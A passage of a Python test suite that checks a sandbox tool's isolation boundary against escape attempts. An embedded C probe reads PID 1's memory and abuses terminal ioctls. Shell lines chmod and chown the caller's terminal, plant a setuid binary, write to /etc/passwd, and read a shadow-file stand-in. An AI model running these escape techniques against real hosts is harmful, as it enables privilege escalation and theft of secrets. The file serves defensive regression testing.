"""An attacker's review of the boundary (issue #20): each test makes one attempt from inside
a native environment (or as a host user) and asserts what must hold on the host.

Tests marked `ESCAPE (fixed)` reproduce what the review found through the boundary as it
first landed (each failed on it; the commit that fixed it says how); `KNOWN` marks what is
documented as not done (docs/security.md), as a strict xfail that fails once it holds; the
others record attempts the boundary stopped from the start.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from tests.integration.sandbox import stderr_of
from tests.integration.test_boundary import down_box, ex

pytestmark = pytest.mark.root

ATTACK = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/syscall.h>
#include <unistd.h>

static long i386call(long nr, long a, long b, long c) {
    long ret;
    asm volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return ret;
}
static void rep(const char *n, long r) {
    if (r < 0 && r > -4096) printf("%s %s\n", n, strerrorname_np(-r));
    else printf("%s ok\n", n);
}
int main(int argc, char **argv) {
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        if (!strcmp(a, "inotify-hold")) {
            int n = 0;
            while (inotify_init1(0) >= 0) n++;
            printf("held %d %s\n", n, strerrorname_np(errno));
            fflush(stdout);
            char c;
            read(0, &c, 1);  /* hold them until the test closes our stdin */
        }
        else if (!strcmp(a, "i386-unshare-user")) rep(a, i386call(310, CLONE_NEWUSER, 0, 0));
        else if (!strcmp(a, "i386-keyctl")) rep(a, i386call(288, 0, -3, 0));
        else if (!strcmp(a, "i386-bpf")) rep(a, i386call(357, 0, 0, 0));
        else if (!strcmp(a, "i386-io_uring")) rep(a, i386call(425, 1, 0, 0));
        else if (!strcmp(a, "i386-fsopen")) rep(a, i386call(430, 0, 0, 0));
        else if (!strcmp(a, "i386-perf")) rep(a, i386call(336, 0, 0, 0));
        else if (!strcmp(a, "pipes-hold")) {
            /* fill this uid's pipe-buffer budget (user_struct.pipe_bufs, keyed by the host
               uid) with 1 MiB pipes; nothing is allocated but the accounting */
            int n = 0, p[2];
            while (n < 256 && pipe(p) == 0 && fcntl(p[0], F_SETPIPE_SZ, 1 << 20) > 0) n++;
            printf("held %d uid %d\n", n, getuid());
            fflush(stdout);
            char c;
            read(0, &c, 1);
        }
        else if (!strcmp(a, "grep-init-memory") && i + 1 < argc) {
            /* read PID 1's writable mappings through /proc/1/mem; print where NEEDLE is */
            /* given reversed: the init legitimately holds the job's own argv */
            const char *rev = argv[++i];
            size_t rl = strlen(rev);
            char *needle = malloc(rl + 1);
            for (size_t k = 0; k < rl; k++) needle[k] = rev[rl - 1 - k];
            needle[rl] = 0;
            FILE *maps = fopen("/proc/1/maps", "r");
            int mem = open("/proc/1/mem", O_RDONLY);
            if (!maps || mem < 0) { printf("mem %s\n", strerrorname_np(errno)); continue; }
            char line[512];
            int found = 0;
            size_t nl = strlen(needle);
            while (fgets(line, sizeof line, maps)) {
                unsigned long lo, hi;
                char perms[5];
                if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[0] != 'r'
                    || perms[1] != 'w' || hi - lo > (1ul << 30)) continue;
                char *buf = malloc(hi - lo);
                ssize_t n = pread(mem, buf, hi - lo, lo);
                for (ssize_t k = 0; n > 0 && k + (ssize_t)nl <= n; k++)
                    if (!memcmp(buf + k, needle, nl)) { found++; break; }
                free(buf);
            }
            printf("found %d\n", found);
        }
        else if (!strcmp(a, "connect-abstract") && i + 1 < argc) {
            const char *name = argv[++i];
            struct sockaddr_un sa = {.sun_family = AF_UNIX};
            strncpy(sa.sun_path + 1, name, sizeof sa.sun_path - 2);
            int s = socket(AF_UNIX, SOCK_STREAM, 0);
            long r = connect(s, (struct sockaddr *)&sa,
                             offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
            if (r < 0) printf("connect-abstract %s\n", strerrorname_np(errno));
            else printf("connect-abstract ok\n");
        }
        else if (!strcmp(a, "connect-tcp") && i + 1 < argc) {
            struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[++i])),
                                     .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
            int s = socket(AF_INET, SOCK_STREAM, 0);
            if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0)
                printf("connect-tcp %s\n", strerrorname_np(errno));
            else {
                char buf[128] = {0};
                ssize_t n = read(s, buf, sizeof buf - 1);
                printf("connect-tcp ok %s\n", n > 0 ? buf : "");
            }
        }
        else if (!strcmp(a, "tiocsti")) {
            char c = '#';
            long r = ioctl(0, TIOCSTI, &c);
            printf("tiocsti %s\n", r < 0 ? strerrorname_np(errno) : "ok");
        }
        else if (!strcmp(a, "tiocsetd") && i + 1 < argc) {
            int disc = atoi(argv[++i]);
            long r = ioctl(0, TIOCSETD, &disc);
            printf("tiocsetd %s\n", r < 0 ? strerrorname_np(errno) : "ok");
        }
        else if (!strcmp(a, "euid")) printf("euid %d\n", geteuid());
        else if (!strcmp(a, "i386-getpid")) rep(a, i386call(20, 0, 0, 0));
        else printf("%s unknown\n", a);
        fflush(stdout);
    }
    return 0;
}
"""


@pytest.fixture(scope="module")
def attack():
    if shutil.which("gcc") is None:
        pytest.skip("needs gcc")
    d = Path(tempfile.mkdtemp(prefix="envctl-test-attack-", dir="/var/tmp"))
    try:
        d.chmod(0o755)
        (d / "attack.c").write_text(ATTACK)
        res = subprocess.run(["gcc", "-O1", "-o", str(d / "attack"), str(d / "attack.c")],
                             capture_output=True, text=True)
        assert res.returncode == 0, res.stderr
        yield str(d / "attack")
    finally:
        shutil.rmtree(d)


BINS = ["sh", "cat", "ls", "ln", "touch", "echo", "id", "chmod", "chown", "mkdir", "cp", "sleep",
        "grep",
        "setpriv"]


def up_box(sb, attack: str, *, extra: str = "") -> Path:
    bins = [*BINS, attack]
    spec = ("name: box\nkind: cpu\nrootfs:\n  binaries: [" + ", ".join(f'"{b}"' for b in bins)
            + "]\n" + extra)
    sb.write_spec("box", spec)
    res = sb.envctl("up", "box")
    assert res.returncode == 0, res.stderr
    return sb.state / "rootfs" / "box"


def down_jobs_box(sb) -> None:
    """down, for a test that ran jobs: their records stay in <state>/jobs (history)."""
    res = sb.envctl("down", "box")
    assert res.returncode == 0, res.stderr
    assert set(sb.residue()) <= {"state_dir"}, sb.residue()


def _host_inotify_init() -> int:
    """inotify_init1 as host root (this test process): the fd, or -errno."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_CLOEXEC)
    return fd if fd >= 0 else -ctypes.get_errno()


# ESCAPE (fixed) (a cross-boundary denial of service, not a privilege gain).
def test_a_nobody_job_cannot_exhaust_host_roots_inotify_instances(sandbox, attack):
    """Every launch's user namespace is created by host root (the job unshares it before it
    drops to its user), so the kernel charges each inotify instance made by any uid inside
    it to (the namespace's own counter and) host root's per-user counter, whose limit is
    fs.inotify.max_user_instances (128 by default). A job of `nobody` that makes as many as it
    can leaves host root (systemd, udevd, `envctl logs --follow`, every root daemon) none:
    inotify_init fails with EMFILE on the host for as long as the job lives. Without a user
    namespace the same job charges host nobody's counter, and only nobody suffers."""
    sb = sandbox
    up_box(sb, attack)
    proc = subprocess.Popen(
        ["nsenter", "-t", str(sb.pid), "-n", "-m", "--", sys.executable, "-m", "envctl",
         "exec", "box", "--user", "nobody", "--", attack, "inotify-hold"],
        env=sb.env(), stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True)
    try:
        line = proc.stdout.readline()
        assert line.startswith("held "), stderr_of(proc)
        got = _host_inotify_init()  # while the job holds them
        if got >= 0:
            os.close(got)
    finally:
        proc.stdin.close()  # the job lets them go
        proc.wait(timeout=60)
        proc.stdout.close()
        proc.stderr.close()
    held = int(line.split()[1])
    limit = int(Path("/proc/sys/fs/inotify/max_user_instances").read_text())
    # What must hold: the job's instances are not host root's to lose.
    assert got >= 0, (f"host root's inotify_init failed ({os.strerror(-got)}) while a nobody "
                      f"job held {held} instances (max_user_instances {limit})")
    down_box(sb)


# ESCAPE (fixed). Root inside changes the owner and mode of a HOST file it was
# handed a descriptor of (the caller's terminal of `exec`).
@pytest.mark.parametrize("isolation", ["native", "gvisor"])
def test_root_inside_cannot_chmod_the_callers_terminal(sandbox, attack, isolation):
    """`exec` without -t hands the job the caller's own stdin/stdout/stderr. Root inside has
    CHOWN/FOWNER/FSETID in its user namespace, and the identity mapping of ids 1-65535 makes
    an operator's pseudo-terminal (host uid 1000, gid tty=5) an inode it may chmod and chown:
    `chmod 666 /proc/self/fd/0` makes the operator's terminal readable and writable by every
    host user (keystrokes read, text injected into her shell), and it stays so after the
    job ends."""
    import pty

    if isolation == "gvisor" and shutil.which("runsc") is None:
        pytest.skip("runsc is not installed")
    sb = sandbox
    up_box(sb, attack, extra="" if isolation == "native" else
           "runtime: {isolation: gvisor, gvisor: {platform: ptrace}}\n")
    master, slave = pty.openpty()
    try:
        tty = os.ttyname(slave)
        os.fchown(slave, 1000, 5)  # an operator's terminal, as login makes it
        os.fchmod(slave, 0o620)
        res = subprocess.run(
            ["nsenter", "-t", str(sb.pid), "-n", "-m", "--", sys.executable, "-m", "envctl",
             "exec", "box", "--user", "root", "--", "sh", "-c",
             "chmod 666 /proc/self/fd/0; chown 1001 /proc/self/fd/0; echo done"],
            env=sb.env(), stdin=slave, capture_output=True, text=True, timeout=60)
        st = os.stat(tty)
    finally:
        os.close(slave)
        os.close(master)
    assert "done" in res.stdout, res.stderr
    assert (st.st_uid, oct(st.st_mode & 0o7777)) == (1000, "0o620"), (
        f"root inside changed the caller's host terminal {tty}: uid {st.st_uid}, mode "
        f"{oct(st.st_mode & 0o7777)}")
    down_box(sb)


# ESCAPE (fixed). Root inside plants a set-uid binary of ANY host uid 1-65535
# in the submitting user's own directory (through its --output file).
@pytest.fixture
def public_dir():
    """A directory every host user can reach (the job's script, alice's home): /var/tmp."""
    d = Path(tempfile.mkdtemp(prefix="envctl-test-attack-pub-", dir="/var/tmp"))
    d.chmod(0o755)
    yield d
    shutil.rmtree(d)


@pytest.mark.parametrize("isolation", ["native", "gvisor"])
def test_root_job_cannot_turn_its_output_file_into_a_setuid_binary(sandbox, attack, public_dir,
                                                                    isolation):
    """`submit-job --user root -o ~/job.out` (the submitting user alice names her own file,
    opened with her rights: it is hers on the host). The job writes a program to its stdout,
    then `chown 1001` and `chmod 4755` the file through /proc/self/fd/1: CAP_CHOWN and
    CAP_FOWNER of its user namespace reach every inode whose ids are mapped, and 1-65535 are
    the host's own. Any host user who can reach alice's directory then runs it with euid
    1001 (bob, or any service account below 65536): a host privilege gained from inside."""
    if isolation == "gvisor" and shutil.which("runsc") is None:
        pytest.skip("runsc is not installed")
    sb = sandbox
    up_box(sb, attack, extra="" if isolation == "native" else
           "runtime: {isolation: gvisor, gvisor: {platform: ptrace}}\n")
    tmp_path = public_dir
    home = tmp_path / "home-alice"
    home.mkdir(mode=0o755)
    os.chown(home, 1000, 1000)
    out = home / "job.out"
    sudo = {"SUDO_UID": "1000", "SUDO_GID": "1000", "SUDO_USER": "alice"}
    script = tmp_path / "job.sh"
    # It ends well whatever the kernel answers (its error output says what that was).
    script.write_text(f"#!/bin/sh\ncat {attack}\nchown 1001:1001 /proc/self/fd/1\n"
                      "chmod 4755 /proc/self/fd/1\nexit 0\n")
    script.chmod(0o755)
    res = sb.envctl("submit-job", "box", "--user", "root", "--wait", "-o", str(out),
                    str(script), env=sb.env(sudo))
    assert res.returncode == 0, res.stderr
    st = out.stat()
    run = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                          str(out), "euid"], capture_output=True, text=True)
    assert (st.st_uid, st.st_mode & 0o6000) == (1000, 0), (
        f"the job made alice's output {out} owned by uid {st.st_uid}, mode "
        f"{oct(st.st_mode & 0o7777)}; run by nobody: {run.stdout.strip()}")
    down_jobs_box(sb)


def _host_pipe_size_as(uid: int) -> int:
    """The buffer size of a new pipe made by host user `uid` (64 KiB normally)."""
    code = "import fcntl, os; r, w = os.pipe(); print(fcntl.fcntl(r, 1032))"  # F_GETPIPE_SZ
    res = subprocess.run(["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
                          sys.executable, "-c", code], capture_output=True, text=True)
    assert res.returncode == 0, res.stderr
    return int(res.stdout)


# ESCAPE (fixed) (low: per-user kernel accounting of a host user, from inside).
def test_root_inside_cannot_spend_a_host_users_kernel_budget(sandbox, attack):
    """Root inside may become any uid 1-65535, and those are the host's own: the kernel's
    per-user accounting keyed by the host uid (user_struct: pipe buffers, epoll watches,
    SCM_RIGHTS fds in flight) is then the host user's. A root job that becomes uid 1000 and
    fills its pipe-buffer budget (fs.pipe-user-pages-soft) leaves host user 1000's new pipes
    the 8 KiB minimum instead of 64 KiB while it runs."""
    sb = sandbox
    up_box(sb, attack, extra="")
    # The first step: root inside becoming host uid 1000 (a launch's user namespace maps
    # root and the job's own ids alone).
    res = ex(sb, "setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "id", "-u")
    assert res.returncode != 0 and "Invalid argument" in res.stderr, (res.stdout, res.stderr)
    # The attempt goes on as root inside (whose budget is the environment's own host uid's)
    # where setpriv is refused: host uid 1000's budget must be untouched either way.
    before = _host_pipe_size_as(1000)
    proc = subprocess.Popen(
        ["nsenter", "-t", str(sb.pid), "-n", "-m", "--", sys.executable, "-m", "envctl",
         "exec", "box", "--user", "root", "--", "sh", "-c",
         f"setpriv --reuid=1000 --regid=1000 --clear-groups {attack} pipes-hold "
         "|| exec " + attack + " pipes-hold"],
        env=sb.env(), stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True)
    try:
        line = proc.stdout.readline()
        assert line.startswith("held "), stderr_of(proc)
        during = _host_pipe_size_as(1000)
    finally:
        proc.stdin.close()
        proc.wait(timeout=60)
        proc.stdout.close()
        proc.stderr.close()
    assert during == before, (f"host uid 1000's new pipes shrank from {before} to {during} "
                              f"bytes while a root job of the environment ran as uid 1000 "
                              f"({line.strip()})")
    down_box(sb)


SYS_ADMIN_CAPS = ("[CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID, SETUID, SETPCAP, "
                  "NET_BIND_SERVICE, SYS_CHROOT, AUDIT_WRITE, SETFCAP, SYS_ADMIN, NET_ADMIN]")


# ESCAPE (fixed) (low: contradicts docs/security.md, matches Docker with NET_ADMIN).
@pytest.mark.skipif(shutil.which("nft") is None or shutil.which("unshare") is None,
                    reason="needs nft and unshare on the host")
def test_sys_admin_in_the_spec_does_not_reach_nf_tables(sandbox, attack):
    """docs/security.md: a nested user namespace — the way unprivileged code reaches nf_tables
    (CVE-2022-1015, CVE-2023-32233, CVE-2024-1086) — is refused even when the spec grants
    SYS_ADMIN. The launch's own user namespace does the same job: with SYS_ADMIN and NET_ADMIN
    in runtime.capabilities, Docker's profile allows unshare(CLONE_NEWNET) (the guard refuses
    only CLONE_NEWUSER), the new network namespace belongs to the job's user namespace, and
    NET_ADMIN there reaches nf_tables: NEWTABLE succeeds. (In the environment's own network
    namespace, owned by the host's, NET_ADMIN gives nothing.)"""
    sb = sandbox
    sb.write_spec("box", "name: box\nkind: cpu\nrootfs:\n  binaries: [sh, unshare, nft]\n"
                  f"runtime: {{capabilities: {SYS_ADMIN_CAPS}}}\n")
    res = sb.envctl("up", "box")
    assert res.returncode == 0, res.stderr
    own = ex(sb, "nft", "add", "table", "ip", "pwn")
    assert own.returncode != 0 and "Operation not permitted" in own.stderr, own.stdout
    res = ex(sb, "unshare", "-n", "nft", "add", "table", "ip", "pwn")
    assert res.returncode != 0, "nf_tables NEWTABLE succeeded in a network namespace of the " \
        "launch's user namespace (SYS_ADMIN + NET_ADMIN in the spec)"
    down_box(sb)


# STOPPED from the start: an attempt the boundary holds.
def test_the_callers_environment_is_not_in_pid_1s_memory(sandbox, attack):
    """docs/security.md: PID 1 has "the caller's environment overwritten", and with
    `runtime.userns: false` + SYS_PTRACE root inside "finds ... a scrubbed environment". The
    init is a fork of the caller's Python, so its whole heap is the caller's: root inside
    reads every writable mapping of /proc/1/mem looking for a variable of the caller's
    environment (searched for reversed: the init holds the job's argv legitimately). Not
    found: the scrub holds."""
    sb = sandbox
    caps = "[CHOWN, DAC_OVERRIDE, FOWNER, SETUID, SETGID, KILL, SYS_PTRACE]"
    up_box(sb, attack, extra=f"runtime: {{capabilities: {caps}, userns: false}}\n")
    secret = "envctl-caller-secret-" + os.urandom(6).hex()
    res = sb.run("env", f"OPERATOR_TOKEN={secret}", sys.executable, "-m", "envctl", "exec",
                 "box", "--user", "root", "--", attack, "grep-init-memory", secret[::-1])
    assert res.returncode == 0, res.stderr
    assert res.stdout.strip() == "found 0", (
        f"the caller's environment variable is in PID 1's memory: {res.stdout.strip()}")
    down_box(sb)


# STOPPED from the start.
def test_the_rootfs_envctl_reads_as_root_is_not_writable_inside(sandbox, attack):
    """envctl reads the rootfs's /etc/passwd and /etc/group as root (resolve_user, job_environ,
    _user_name), and its files are hard links of the host's own inodes (ld.so.cache, libc,
    every binary: _place_host_file). Root inside can change none of them: the tree is the
    host root's (uid 0, not mapped) and bound read-only."""
    sb = sandbox
    root = up_box(sb, attack)
    before = {n: (root / n).read_bytes() for n in ("etc/passwd", "etc/group", "etc/ld.so.cache")}
    res = ex(sb, "sh", "-c", "echo 'alice:x:0:0::/:/bin/sh' >> /etc/passwd; "
             "echo 'disk:x:6:nobody' >> /etc/group; echo x >> /etc/ld.so.cache; "
             "chmod 666 /etc/passwd; touch /etc/new; echo done")
    assert "done" in res.stdout, res.stderr
    assert res.stderr.count("Read-only file system") + res.stderr.count("Permission denied") \
        == 5, res.stderr
    assert {n: (root / n).read_bytes() for n in before} == before
    down_box(sb)


# ESCAPE (fixed in part) (an environment without `network:`): its jobs are in the host's
# network namespace by design (docs/security.md; `plan` warns), but root inside no longer
# chooses which host user a host daemon sees.
def test_a_host_daemon_sees_the_environments_uid_never_a_host_users(sandbox, attack):
    """An environment without a `network:` section has no network namespace of its own, so
    its launches reach the HOST's abstract unix sockets (an X server's, a debugger's). With
    ids 1-65535 mapped to themselves, a host daemon checking SO_PEERCRED saw whatever host uid
    root inside chose (host user 1000 here). Now root inside is the environment's own uid to
    it, and cannot become 1000; and `plan` says the environment shares the host's network."""
    sb = sandbox
    up_box(sb, attack)
    plan = sb.envctl("plan", "box")
    assert "no network: section" in plan.stdout + plan.stderr, plan.stdout + plan.stderr
    base = json.loads(sb.envctl("plan", "box", "--json").stdout)[0]["resolved"]["userns"]
    name = "envctl-attack-" + os.urandom(4).hex()
    server = subprocess.Popen(
        ["nsenter", "-t", str(sb.pid), "-n", "--", sys.executable, "-c",
         "import socket, struct; s = socket.socket(socket.AF_UNIX); "
         f"s.bind('\\0{name}'); s.listen(); print('up', flush=True); c, _ = s.accept(); "
         "pid, uid, gid = struct.unpack('3i', c.getsockopt(socket.SOL_SOCKET, "
         "socket.SO_PEERCRED, 12)); print('peer uid', uid, flush=True)"],
        stdout=subprocess.PIPE, text=True)
    try:
        assert server.stdout.readline().strip() == "up"
        posing = ex(sb, "setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", attack,
                    "connect-abstract", name)
        inside = ex(sb, attack, "connect-abstract", name)
        peer = (server.stdout.readline().strip()
                if inside.stdout.strip() == "connect-abstract ok" else "(no connection)")
    finally:
        server.kill()
        server.wait(timeout=30)
        server.stdout.close()
    assert posing.returncode != 0 and "Invalid argument" in posing.stderr, posing.stderr
    assert peer.startswith("peer uid ") and f"host uid/gid {peer.split()[-1]} " in base, (
        peer, base)
    down_box(sb)


# STOPPED from the start: even with SYS_ADMIN, the job's cgroup is not its to change.
@pytest.mark.skipif(shutil.which("unshare") is None or shutil.which("mount") is None,
                    reason="needs unshare and mount")
def test_a_job_with_sys_admin_cannot_leave_or_raise_its_cgroup(sandbox, attack):
    sb = sandbox
    sb.write_spec("box", "name: box\nkind: cpu\nrootfs:\n  binaries: [sh, unshare, mount, "
                  "cat, mkdir, echo]\nresources: {memory: {max: 1g}}\n"
                  f"runtime: {{capabilities: {SYS_ADMIN_CAPS}}}\n")
    res = sb.envctl("up", "box")
    assert res.returncode == 0, res.stderr
    script = ("mount -t cgroup -o memory none /tmp && cat /tmp/memory.limit_in_bytes; "
              "echo 9999999999 > /tmp/memory.limit_in_bytes; mkdir /tmp/child; "
              "mount -t cgroup -o none,name=systemd none /dev/shm && ls /dev/shm; "
              "mkdir /dev/shm/pwn; echo $$ > /dev/shm/cgroup.procs; echo done")
    res = ex(sb, "unshare", "-m", "-C", "sh", "-c", script)
    assert "done" in res.stdout, res.stderr
    assert "pwn" not in {p.name for p in (CGROUP / "systemd").iterdir()} \
        if (CGROUP / "systemd").is_dir() else True
    # The memory cgroup seen is the launch's own (its cgroup namespace's root), root's files;
    # name=systemd, which the launch does not join, shows the host's hierarchy root (its
    # release_agent), but root inside is not its owner either.
    assert res.stderr.count("Permission denied") == 4, res.stderr
    down_box(sb)


CGROUP = Path("/sys/fs/cgroup")


# (Another host user reading a job's output through `envctl logs`: a plain user now reaches
# jobs only through the daemon, which lets the owner, its environment's operators and admins
# alone see them: tests/integration/test_daemon.py
# test_a_listed_user_submits_without_sudo_and_others_are_refused. `sudo envctl` is root.)


# ESCAPE (fixed) (cross-user on the host: any host process running as `nobody` tampered
# with another user's job).
def test_a_host_process_of_the_jobs_uid_cannot_rewrite_its_staged_program(sandbox, attack,
                                                                          public_dir):
    """submit-job hands the job's directory <state>/jobs/ID to the job's uid on the host
    (`_host_ids`: the same id, 0 aside), and <state> and <state>/jobs are 0755. For a job of
    `--user nobody` (least privilege, as Slurm users do), every HOST process running as
    nobody — not the submitter — may rewrite the staged program (before or while it runs:
    the /job bind is read-only inside, the inode is not on the host) and read and rewrite its
    default outputs. (Seen by hand: a line appended while the job's `sh` sleeps is run.)"""
    sb = sandbox
    up_box(sb, attack, extra="")
    alice = {"SUDO_UID": "1000", "SUDO_GID": "1000", "SUDO_USER": "alice"}
    script = public_dir / "job.sh"
    script.write_text("#!/bin/sh\necho started\n")
    script.chmod(0o755)
    res = sb.run(sys.executable, "-m", "envctl", "submit-job", "box", "--user", "nobody",
                 "--wait", str(script), env=alice)
    assert res.returncode == 0, res.stderr
    jid = res.stdout.split()[0]
    # The state directory where a host user finds it (/var/lib/envctl, 0755 as envctl makes
    # it): the test's own lies below pytest's 0700 directory, so it is bound at a public
    # path, in the sandbox's mount namespace only.
    public_state = public_dir / "state"
    public_state.mkdir()
    sb.run("mount", "--bind", str(sb.state), str(public_state), check=True)
    try:
        jdir = public_state / "jobs" / jid
        tamper = sb.run("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh",
                        "-c", f"echo 'echo injected-by-host-nobody' >> {jdir}/job.sh && "
                        f"cat {jdir}/stdout")
    finally:
        sb.run("umount", str(public_state), check=True)
    staged = (sb.state / "jobs" / jid / "job.sh").read_text()
    assert tamper.returncode != 0 and "injected" not in staged, (
        f"host nobody (not the submitter, uid 1000) rewrote job {jid}'s staged program and "
        f"read its output {tamper.stdout!r}: {staged!r}")
    down_jobs_box(sb)


# KNOWN natively (an environment without `network:` is in the host's network namespace by
# design: docs/security.md, `plan` warns); gVisor's own network stack never reaches it.
@pytest.mark.parametrize("isolation", [
    pytest.param("native", marks=pytest.mark.xfail(
        strict=True, reason="no network: is the host's network namespace (docs/security.md)")),
    "gvisor"])
def test_a_host_loopback_service_is_not_reachable(sandbox, attack, isolation):
    """The same as the abstract socket, over TCP: a service the host binds to 127.0.0.1 only
    (envctl's own `monitor --listen 127.0.0.1:9464`, a database, a notebook without a token)
    answers a job of an environment without `network:`; under gVisor too (`--network host`
    in the launcher's namespace, which is then the host's)."""
    if isolation == "gvisor" and shutil.which("runsc") is None:
        pytest.skip("runsc is not installed")
    sb = sandbox
    up_box(sb, attack, extra="" if isolation == "native" else
           "runtime: {isolation: gvisor, gvisor: {platform: ptrace}}\n")
    server = subprocess.Popen(
        ["nsenter", "-t", str(sb.pid), "-n", "--", sys.executable, "-c",
         "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); "
         "print(s.getsockname()[1], flush=True); c, _ = s.accept(); c.sendall(b'host-only')"],
        stdout=subprocess.PIPE, text=True)
    try:
        port = server.stdout.readline().strip()
        inside = ex(sb, attack, "connect-tcp", port, user="nobody")
    finally:
        server.kill()
        server.wait(timeout=30)
        server.stdout.close()
    assert "host-only" not in inside.stdout, (
        f"a nobody job reached the host's 127.0.0.1:{port}: {inside.stdout.strip()}")
    down_box(sb)


# Probes the caller's terminal (fd 0 of `exec` without -t) with the ioctls that act on it.
@pytest.mark.parametrize("user", ["nobody", "root"])
def test_a_job_cannot_break_the_callers_terminal(sandbox, attack, user):
    """TIOCSTI (push input into the operator's shell) must fail: the job has no controlling
    terminal and no init-namespace SYS_ADMIN. TIOCSETD (the line discipline) has no such check:
    N_NULL (27) on the operator's terminal discards everything she types after the job ends,
    and `reset`/`stty sane` do not change a line discipline back."""
    import fcntl
    import pty
    import struct

    sb = sandbox
    up_box(sb, attack)
    master, slave = pty.openpty()
    try:
        res = subprocess.run(
            ["nsenter", "-t", str(sb.pid), "-n", "-m", "--", sys.executable, "-m", "envctl",
             "exec", "box", "--user", user, "--", attack, "tiocsti", "tiocsetd", "27"],
            env=sb.env(), stdin=slave, capture_output=True, text=True, timeout=60)
        ldisc = struct.unpack("i", fcntl.ioctl(slave, 0x5424, b"\0" * 4))[0]  # TIOCGETD
    finally:
        os.close(slave)
        os.close(master)
    # exec relays a terminal through a pipe (ENOTTY); were it passed, TIOCSTI is EPERM.
    assert res.stdout.split("\n")[0] in ("tiocsti ENOTTY", "tiocsti EPERM"), \
        res.stdout + res.stderr
    assert ldisc == 0, (f"a {user} job set the caller's terminal's line discipline to {ldisc} "
                        f"(N_TTY is 0): {res.stdout.strip()}")
    down_box(sb)


# ESCAPE (fixed) (cross-user: a host user kept write access into every environment's
# rootfs copy of a file of hers).
def test_a_host_users_file_in_the_rootfs_is_a_copy_she_cannot_change(sandbox, public_dir):
    """rootfs.binaries (and the libraries they need) are hard-linked into the rootfs when they
    are on its file system (`_place_host_file`; root's CAP_FOWNER passes protected_hardlinks).
    For a file a host user owns or can write (a tool in /opt or /usr/local owned by its
    maintainer, a group-writable /usr/local/lib of Debian's `staff`), the rootfs's "copy" IS
    her inode: what she writes on the host later runs in every job of every environment that
    has it, root jobs of other teams included — the rootfs is read-only only inside."""
    sb = sandbox
    tool = public_dir / "tool"
    tool.write_text("#!/bin/sh\necho original\n")
    tool.chmod(0o755)
    os.chown(tool, 1000, 1000)  # alice's
    sb.write_spec("box", f"name: box\nkind: cpu\nrootfs:\n  binaries: [sh, \"{tool}\"]\n")
    res = sb.envctl("up", "box")
    assert res.returncode == 0, res.stderr
    copy = next(p for p in (sb.state / "rootfs" / "box").rglob("tool"))
    # Alice rewrites her own file on the host, as she may.
    subprocess.run(["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "sh", "-c",
                    f"printf '#!/bin/sh\\necho rewritten-by-alice\\n' > {tool}"], check=True)
    inside = ex(sb, "/" + str(copy.relative_to(sb.state / "rootfs" / "box")))
    assert "rewritten-by-alice" not in inside.stdout, (
        f"the rootfs's {copy} is alice's inode (links {copy.stat().st_nlink}): a root job ran "
        f"what she wrote: {inside.stdout.strip()}")
    down_box(sb, purge=True)


# ESCAPE (fixed) (host data read: a root:shadow 0640 host file read from inside).
@pytest.mark.parametrize(("target", "trigger"), [("shadow-group", "up"), ("bob-0600", "up"),
                                                 ("shadow-group", "heal")])
def test_a_swapped_rootfs_source_never_links_a_host_secret_in(sandbox, public_dir, target,
                                                              trigger):
    """A rootfs file (`rootfs.files: {path, source}`) whose source sits in a directory alice can
    write: she replaces it by a symlink to a host file of group `shadow` (mode 0640,
    /etc/shadow's; a stand-in here). The next `up` (or `monitor --heal`'s repair) sees the
    source changed (`_source_stat` follows the symlink) and re-places it
    (`os.link(source, …, follow_symlinks=True)`: the host secret's own inode, with its group).
    Root inside joins group 42 (setgroups: the identity mapping gives it every gid 1-65535)
    and reads it; a file of bob's (uid 1001, 0600, in his 0700 home) it reads with the
    DAC_OVERRIDE of its user namespace, which covers every mapped uid."""
    sb = sandbox
    shadow_gid = 42
    if target == "shadow-group":
        secret = public_dir / "shadow-standin"
        secret.write_text("root:$6$host-secret-hash:20000::::::\n")
        os.chown(secret, 0, shadow_gid)
        secret.chmod(0o640)
    else:
        home = public_dir / "home-bob"
        home.mkdir(mode=0o700)
        os.chown(home, 1001, 1001)
        secret = home / "id_ed25519"
        secret.write_text("bob's key: host-secret-hash\n")
        os.chown(secret, 1001, 1001)
        secret.chmod(0o600)
    tools = public_dir / "tools"
    tools.mkdir()
    os.chown(tools, 1000, 1000)  # alice maintains /opt/tools
    conf = tools / "app.conf"
    conf.write_text("setting=1\n")
    os.chown(conf, 1000, 1000)
    sb.write_spec("box", "name: box\nkind: cpu\nrootfs:\n  binaries: [sh, cat, setpriv, ls]\n"
                  f"  files: [{{path: /etc/app.conf, source: \"{conf}\"}}]\n")
    # A source in a directory alice can change is refused outright (safepath's
    # root-controlled chain); the attack needs the directory handed to her after an up.
    res = sb.envctl("up", "box")
    assert res.returncode == 2 and f"{tools} is owned by uid 1000" in res.stderr, res.stderr
    os.chown(tools, 0, 0)
    res = sb.envctl("up", "box")
    assert res.returncode == 0, res.stderr
    os.chown(tools, 1000, 1000)
    subprocess.run(["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "sh", "-c",
